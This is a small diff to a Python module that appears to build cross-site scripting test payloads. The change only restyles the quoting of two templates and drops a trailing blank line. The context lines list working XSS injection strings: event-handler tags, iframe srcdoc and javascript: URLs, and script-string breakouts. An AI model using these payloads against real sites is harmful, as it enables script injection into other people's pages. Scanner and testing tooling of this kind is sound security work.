@@ -83,7 +83,7 @@ _EVENT_HANDLERS = (
     "<body onpageshow=«js»>",
     "<body onresize=«js»>",
     "<details open ontoggle=«js»>",
-    "<iframe srcdoc=\"<script>alert(«n»)</script>\">",
+    '<iframe srcdoc="<script>alert(«n»)</script>">',
     "<iframe srcdoc='<img src=x onerror=alert(«n»)>'>",
     '<iframe src="javascript:alert(«n»)">',
     "<iframe onload=«js»>",
@@ -208,7 +208,7 @@ _STRING_BREAKOUTS = (
     "\u2029«js»//",
     '"\u2028«js»//',
     '"]});«js»;({"',
-    "\\\\\"});«js»;//",
+    '\\\\"});«js»;//',
     "\\u0022;«js»;//",
     "\\x22;«js»;//",
     "</script><script>«js»//",
@@ -395,4 +395,3 @@ def payloads() -> list[str]:
     templates = [t for family in FAMILIES.values() for t in family]
     assert len(set(templates)) == len(templates), "a template is listed twice"
     return [_fill(t, FIRST + i) for i, t in enumerate(templates)] + [PAYLOAD, JS_URL]
-
